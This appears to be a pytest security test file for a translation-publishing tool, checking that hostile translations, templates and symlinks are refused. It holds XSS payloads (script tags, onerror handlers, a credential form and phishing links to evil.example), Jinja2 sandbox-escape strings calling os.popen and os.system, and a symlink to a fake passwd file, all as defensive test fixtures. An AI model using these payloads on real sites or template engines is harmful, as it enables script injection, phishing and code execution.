"""Nothing a translator or contributor writes runs code or reaches a page as markup it was not given.

Translations that change an article's markup are published as the source
text (checked in Chromium's DOM, and in the .md and .txt files); templates
run in Jinja2's sandbox; links out of the content tree are not followed;
the output folder stays in the tree and off the articles and catalogs;
merge and import wait for the tree's lock.
"""

from __future__ import annotations

import re
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from localize.article import read_article
from localize.catalog import read_catalog, write_catalog
from localize.config import load_config
from localize.errors import SourceError
from localize.lock import lock_path
from tests.test_browser import pages_in_chromium, run_chromium
from tests.test_lock import HOLDER, start
from tests.test_pages_helpers import translate

ARTICLE = """---
title: Missiles hit Kyiv
date: 2022-06-27T11:43:00+03:00
---

Missiles hit the centre of Kyiv on Sunday morning.

The ministry published [the full report](https://example.org/report) at noon.

Residents went to the shelters.

The mayor spoke to reporters.

Trains ran on time.

The metro stayed open.

Shops opened late.

Schools were closed.

Rescuers worked through the night.

The <b>air raid</b> alert lasted two hours.

The city council met in the evening.
"""

BENIGN = {
    "Missiles hit the centre of Kyiv on Sunday morning.": "В воскресенье утром ракеты попали в центр Киева.",
}
HOSTILE = {
    "Missiles hit Kyiv": "<script>alert('title')</script>Ракеты",
    "The ministry published [the full report](https://example.org/report) at noon.":
        "Министерство опубликовало [полный отчёт](https://evil.example/phish) в полдень.",
    "Residents went to the shelters.": "Жители ушли в [укрытия](https://evil.example/added).",
    "The mayor spoke to reporters.": "Мэр поговорил с журналистами: <https://evil.example/auto>.",
    "Trains ran on time.": "Поезда ходили по расписанию.<script>document.title='pwned'</script>",
    "The metro stayed open.": "Метро работало. <form action=https://evil.example/login><input name=p></form>",
    "Shops opened late.": "<iframe src=https://evil.example/frame></iframe>Магазины открылись поздно.",
    "Schools were closed.": "Школы закрыты.<style>body{display:none}</style>",
    "Rescuers worked through the night.": "Спасатели работали всю ночь. <img src=x onerror=alert(1)>",
    "The <b>air raid</b> alert lasted two hours.": "Тревога <b onmouseover=alert(2)>воздушная</b> длилась два часа.",
    "The city council met in the evening.": "[council]: https://evil.example/ref\nГорсовет собрался вечером.",
}
MARKERS = ("evil.example", "<script", "<form", "<iframe", "<style", "onerror", "onmouseover", "alert(")

REPORT = """
  return {
      title: doc.title,
      links: [...main.querySelectorAll("[href]")].map(element => element.getAttribute("href")),
      sources: [...doc.querySelectorAll("[src], [action], [formaction]")].map(element => element.outerHTML),
      // The JSON-LD block in the head is data a browser never runs; any other script is live.
      live: [...doc.querySelectorAll("script:not([type='application/ld+json']), form, iframe, style, object, embed")].map(element => element.tagName),
      jsonLd: [...doc.querySelectorAll("script[type='application/ld+json']")].map(element => JSON.parse(element.textContent)["@type"]),
      handlers: [...doc.querySelectorAll("*")].flatMap(
        element => [...element.attributes].filter(attribute => attribute.name.startsWith("on")).map(attribute => attribute.name)),
      blocks: [...main.querySelectorAll("h1, p, li")].map(
        element => [element.textContent.trim(), element.closest("[lang]").getAttribute("lang")]),
    };
"""


@pytest.fixture
def merged(content_tree, run_cli):
    """The article merged into Russian with one benign and many hostile translations; (root, merge result)."""
    root = content_tree({"strike": ARTICLE}, languages=("ru",), settings="min_translated = 0\n")
    assert run_cli("extract", project=root).exit_code == 0
    translate(root, "ru", "strike", lambda msgid: BENIGN.get(msgid) or HOSTILE.get(msgid))
    result = run_cli("merge", project=root)
    assert result.exit_code == 0, result.output
    return root, result


def test_merge_names_every_refused_translation(merged):
    root, result = merged
    po = Path("locales/ru/LC_MESSAGES/articles/strike.po")
    lines = {message.msgid: message.linenum for message in read_catalog(root / po).messages}
    warnings = [line for line in result.output.splitlines() if line.startswith("Warning: ")]
    expected = {
        "Missiles hit Kyiv": "E205",
        "The ministry published [the full report](https://example.org/report) at noon.": "E201",
        "Residents went to the shelters.": "E201",
        "The mayor spoke to reporters.": "E201",
        "Trains ran on time.": "E205",
        "The metro stayed open.": "E205",
        "Shops opened late.": "E205",
        "Schools were closed.": "E205",
        "Rescuers worked through the night.": "E205",
        "The <b>air raid</b> alert lasted two hours.": "E205",
        "The city council met in the evening.": "E201",
    }
    for msgid, code in expected.items():
        assert any(
            line.startswith(f"Warning: {po}:{lines[msgid]}: {code} ") and line.endswith("not published, the source text stands")
            for line in warnings
        ), (msgid, warnings)
    assert len(warnings) == len(expected)
    assert "ru: 1 article(s), 1/12 segments translated" in result.output


def test_check_keeps_failing_on_them(merged, run_cli):
    root, _ = merged
    result = run_cli("check", project=root)
    assert result.exit_code == 1
    assert {"E201", "E205"} <= set(re.findall(r" (E20\d) ", result.output))


def test_the_markdown_and_text_carry_the_source_instead(merged):
    root, _ = merged
    markdown = (root / "build/ru/strike.md").read_text(encoding="utf-8")
    text = (root / "build/ru/strike.txt").read_text(encoding="utf-8")
    for published in (markdown, text):
        for marker in MARKERS:
            assert marker not in published
    for published in ((root / "build/ru/index.html").read_text(encoding="utf-8"),
                      (root / "build/ru/manifest.json").read_text(encoding="utf-8")):
        assert "evil.example" not in published and "alert(" not in published
    # The source, byte for byte, but for the one benign translation.
    assert markdown == ARTICLE.replace(*next(iter(BENIGN.items())))
    assert "В воскресенье утром ракеты попали в центр Киева." in text
    assert "The ministry published the full report at noon." in text


def test_chromium_shows_no_live_markup_the_source_did_not_have(merged, tmp_path):
    root, _ = merged
    pages = [f"build/{language}/strike.html" for language in ("en", "ru")]
    found = pages_in_chromium(root, pages, REPORT, profile=tmp_path / "profile")
    source, page = (found[path] for path in pages)

    # The page's own stylesheet, and nothing else.
    assert page["live"] == source["live"] == ["STYLE"]
    assert page["jsonLd"] == source["jsonLd"] == ["NewsArticle"]
    assert page["handlers"] == source["handlers"] == []
    assert page["sources"] == source["sources"]
    # Every link of the body is one the source has (the page links its own languages besides).
    assert sorted(link for link in page["links"] if "evil" in link or link.startswith("http")) == \
        sorted(link for link in source["links"] if link.startswith("http"))
    assert not any("evil" in link for link in page["links"])
    assert page["title"] == source["title"] == "Missiles hit Kyiv"
    blocks = dict(page["blocks"])
    assert blocks["В воскресенье утром ракеты попали в центр Киева."] == "ru"
    for msgid in HOSTILE:
        shown = re.sub(r"<[^>]+>|\[|\]\([^)]*\)", "", msgid)
        assert blocks[shown] == "en", shown


# The site's strings reach every page's HTML through the templates, which take a translation as markup.
HOSTILE_UI = {
    "All news": '<meta http-equiv="refresh" content="0;url=https://evil.example/">Все новости',
    "Other news": 'Другие <img src=x onerror="alert(3)">новости',
    "Read the original": '<a href="https://evil.example/orig">Читать оригинал</a>',
}


def test_site_strings_that_bring_markup_are_not_published_and_fail_check(content_tree, run_cli, tmp_path):
    root = content_tree({"strike": ARTICLE, "other": "---\ntitle: Other\ndate: 2022-06-26\n---\n\nText.\n"},
                        languages=("ru",), settings="min_translated = 0\n")
    assert run_cli("extract", project=root).exit_code == 0
    ui = root / "locales/ru/LC_MESSAGES/ui.po"
    catalog = read_catalog(ui)
    plural = '%(num)d минута <img src=x onerror="alert(4)">'
    messages = tuple(
        replace(message, msgstr_plural={0: plural, 1: "%(num)d минуты", 2: "%(num)d минут"}) if message.msgid_plural
        else replace(message, msgstr=HOSTILE_UI.get(message.msgid, message.msgid + " (ru)"))
        for message in catalog.messages
    )
    write_catalog(ui, replace(catalog, messages=messages))
    lines = {message.msgid: message.linenum for message in read_catalog(ui).messages}

    checked = run_cli("check", project=root)
    assert checked.exit_code == 1
    for msgid in (*HOSTILE_UI, "%(num)d minute read"):
        assert f"{lines[msgid]}: E205 " in checked.output, msgid
    assert run_cli("merge", project=root).exit_code == 0

    pages = sorted((root / "build/ru").glob("*.html"))
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert not any(marker in text for marker in ("evil.example", "onerror", 'http-equiv="refresh"')), page.name
    article = (root / "build/ru/strike.html").read_text(encoding="utf-8")
    assert "All news" in article and "Other news" in article  # the English stands instead
    # What Chromium builds from the page: no handler, no element the English page lacks.
    dumped = run_chromium("--dump-dom", (root / "build/ru/strike.html").as_uri(), profile=tmp_path / "profile").stdout
    assert "<html" in dumped and "onerror" not in dumped and "evil.example" not in dumped


HOSTILE_TEMPLATES = {
    "globals": "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
                  "{{ c(['touch', 'MARKER']) }}{% endif %}{% endfor %}",
    "function globals": "{{ lipsum.__globals__['os'].system('touch MARKER') }}",
}


@pytest.mark.parametrize("body", HOSTILE_TEMPLATES.values(), ids=HOSTILE_TEMPLATES.keys())
def test_a_hostile_template_runs_nothing(content_tree, run_cli, tmp_path, body):
    root = content_tree({"strike": ARTICLE}, languages=("ru",))
    marker = tmp_path / "ran"
    (root / "templates").mkdir()
    (root / "templates/article.html").write_text(
        '{% extends "base.html" %}\n{% block main %}\n' + body.replace("MARKER", str(marker)) + "\n{% endblock %}\n",
        encoding="utf-8",
    )
    assert run_cli("extract", project=root).exit_code == 0
    result = run_cli("merge", project=root)
    assert result.exit_code == 1
    assert re.fullmatch(rf"Error: {re.escape(str(root / 'templates/article.html'))}:3: unsafe template, not run: .+\n",
                        result.output), result.output
    assert not marker.exists()
    assert not (root / "build").exists()


def test_a_template_reached_through_a_link_out_of_its_folder_is_not_read(content_tree, run_cli, tmp_path):
    root = content_tree({"strike": ARTICLE}, languages=("ru",))
    secret = tmp_path / "secret.html"
    secret.write_text("the machine's secret\n", encoding="utf-8")
    (root / "templates").mkdir()
    (root / "templates/article.html").symlink_to(secret)
    result = run_cli("merge", project=root)
    assert result.exit_code == 1
    assert "article.html: a symbolic link to a file outside the templates folder" in result.output
    assert not (root / "build").exists()


def test_an_article_linked_from_outside_the_tree_is_refused(content_tree, run_cli, tmp_path):
    root = content_tree({"strike": ARTICLE}, languages=("ru",))
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0:the machine's secret:/root:/bin/sh\n", encoding="utf-8")
    (root / "source_articles/p.md").symlink_to(secret)
    for command in ("extract", "merge"):
        # The link is refused by name; the good article beside it goes through (one bad article blocks no other).
        result = run_cli(command, project=root)
        assert result.exit_code == 1
        errors = [line for line in result.output.splitlines() if line.startswith("Error: ")]
        assert errors == ["Error: source_articles/p.md:1: a symbolic link to a file outside the content tree: not read"]
    assert (root / "build/en/strike.html").is_file()
    assert not (root / "build/en/p.html").exists()
    published = [path for path in root.rglob("*") if path.is_file() and not path.is_symlink() and b"the machine's secret" in path.read_bytes()]
    assert published == []
    # A link inside the tree is an article like any other.
    (root / "source_articles/p.md").unlink()
    (root / "shared").mkdir()
    (root / "shared/alias.md").write_text("# Alias\n\nA shared paragraph.\n", encoding="utf-8")
    (root / "source_articles/alias.md").symlink_to(root / "shared/alias.md")
    assert run_cli("extract", project=root).exit_code == 0
    assert run_cli("merge", project=root).exit_code == 0
    assert "A shared paragraph." in (root / "build/en/alias.md").read_text(encoding="utf-8")


def test_an_article_reached_through_a_folder_linked_out_of_the_tree_is_refused(content_tree, tmp_path):
    # The link is a folder on the article's way, not the article: the walk of the source folder does
    # not enter it, but a path made from a slug (a catalog's, for preview and check) goes through it.
    root = content_tree({"strike": ARTICLE}, languages=("ru",))
    config = load_config(root)
    outside = tmp_path / "elsewhere"
    (outside / "deep").mkdir(parents=True)
    (outside / "deep/p.md").write_text("# Secret\n\nthe machine's secret\n", encoding="utf-8")
    (root / "source_articles/world").symlink_to(outside)
    with pytest.raises(SourceError, match="a symbolic link to a file outside the content tree: not read"):
        read_article(config, root / "source_articles/world/deep/p.md")
    # The same folder linked to one inside the tree holds articles like any other.
    (root / "source_articles/world").unlink()
    (root / "shared/deep").mkdir(parents=True)
    (root / "shared/deep/alias.md").write_text("# Alias\n\nA shared paragraph.\n", encoding="utf-8")
    (root / "source_articles/world").symlink_to(root / "shared")
    article = read_article(config, root / "source_articles/world/deep/alias.md")
    assert article.slug == "world/deep/alias" and "A shared paragraph." in article.text
    # And a plain article, no link on its way, is read.
    assert read_article(config, root / "source_articles/strike.md").slug == "strike"


@pytest.mark.parametrize(("setting", "message"), [
    # An absolute folder outside the tree, as "/" would be (not "/" itself: a regression would write there).
    ('output_dir = "OUTSIDE"', "output_dir 'OUTSIDE' is not a folder inside the content tree"),
    ('output_dir = "."', "output_dir '.' is not a folder inside the content tree"),
    ('output_dir = "../outside"', "output_dir '../outside' is not a folder inside the content tree"),
    ('output_dir = "source_articles"', "output_dir 'source_articles' overlaps source_dir 'source_articles'"),
    ('output_dir = "source_articles/build"', "output_dir 'source_articles/build' overlaps source_dir"),
    ('output_dir = "locales"', "output_dir 'locales' overlaps locales_dir 'locales'"),
    ('locales_dir = "source_articles"', "locales_dir 'source_articles' overlaps source_dir 'source_articles'"),
    ('locales_dir = "source_articles/po"', "locales_dir 'source_articles/po' overlaps source_dir"),
])
def test_bad_output_folders_are_refused(content_tree, run_cli, tmp_path, setting, message):
    outside = (tmp_path / "outside").as_posix()
    setting, message = setting.replace("OUTSIDE", outside), message.replace("OUTSIDE", outside)
    root = content_tree({"strike": ARTICLE}, languages=("ru",), settings=setting + "\n")
    before = sorted(tmp_path.rglob("*"))
    result = run_cli("merge", project=root)
    assert result.exit_code == 1
    # The setting is on line 6 of the file content_tree writes.
    assert result.output.startswith(f"Error: {root / 'pyproject.toml'}:6: [tool.localize] {message}"), result.output
    assert len(result.output.splitlines()) == 1
    assert sorted(tmp_path.rglob("*")) == before


def test_merge_out_may_leave_the_tree_but_not_overlap_it(content_tree, run_cli, tmp_path):
    root = content_tree({"strike": ARTICLE}, languages=("ru",))
    assert run_cli("merge", "--out", tmp_path / "site", project=root).exit_code == 0
    assert (tmp_path / "site/en/strike.html").is_file()
    for folder in ("source_articles", "locales", "."):
        result = run_cli("merge", "--out", root / folder, project=root)
        assert result.exit_code == 1
        assert result.output.startswith(f"Error: --out {root / folder} overlaps the "), result.output
    assert not (root / "en").exists() and not (root / "source_articles/en").exists()


def test_an_output_language_folder_linked_out_of_the_output_is_refused(content_tree, run_cli, tmp_path):
    root = content_tree({"strike": ARTICLE}, languages=("ru",))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / "build").mkdir()
    (root / "build/ru").symlink_to(elsewhere)
    result = run_cli("merge", project=root)
    assert result.exit_code == 1
    assert result.output == f"Error: {root / 'build/ru'}: ru is a link out of the output folder: remove it\n"
    assert list(elsewhere.iterdir()) == [] and not (root / "build/en").exists()


@pytest.fixture
def held(tmp_path):
    """Another process holding the tree's lock until its stdin closes."""
    processes = []

    def hold(root: Path) -> subprocess.Popen:
        process = subprocess.Popen([sys.executable, "-c", HOLDER, str(lock_path(root)), "exclusive"],
                                   stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert process.stdout.readline() == "locked\n"
        processes.append(process)
        return process

    yield hold
    for process in processes:
        if process.poll() is None:
            process.kill()
        process.wait()


@pytest.mark.parametrize("command", ["merge", "import"])
def test_merge_and_import_wait_for_the_lock(content_tree, held, tmp_path, command):
    root = content_tree({"strike": ARTICLE}, languages=("ru",))
    pasted = tmp_path / "pasted.txt"
    pasted.write_text("27 June 2022, 11:43\n\nKyiv is quiet\n\nThe city slept through the night.\n", encoding="utf-8")
    arguments = ["merge"] if command == "merge" else ["import", str(pasted), "--slug", "quiet", "--language", "en"]
    written = root / ("build/en/strike.html" if command == "merge" else "source_articles/quiet.md")
    other = held(root)
    errors = tmp_path / "stderr.txt"
    process = start(root, *arguments, stderr=errors)
    deadline = time.monotonic() + 60
    while "waiting" not in errors.read_text() and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert errors.read_text() == f"waiting for another localize process (lock file {lock_path(root)})\n"
    assert not written.exists()
    other.stdin.close()
    process.communicate(timeout=120)
    assert process.returncode == 0, errors.read_text()
    assert written.is_file()
